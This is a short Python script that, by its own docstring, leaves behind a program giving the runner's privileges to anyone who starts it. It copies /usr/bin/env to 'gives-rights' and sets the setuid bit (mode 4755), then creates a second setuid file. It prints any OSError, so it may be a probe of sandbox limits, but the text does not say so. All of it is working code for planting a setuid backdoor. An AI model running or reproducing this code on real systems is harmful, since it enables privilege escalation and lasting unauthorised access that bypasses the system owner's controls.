"""Leave a program behind that gives our rights to whoever starts it."""

import os
import shutil

shutil.copyfile("/usr/bin/env", "gives-rights")
try:
    os.chmod("gives-rights", 0o4755)
except OSError as error:
    print(error)
try:
    os.close(os.open("gives-rights-too", os.O_CREAT | os.O_WRONLY, 0o4755))
except OSError as error:
    print(error)
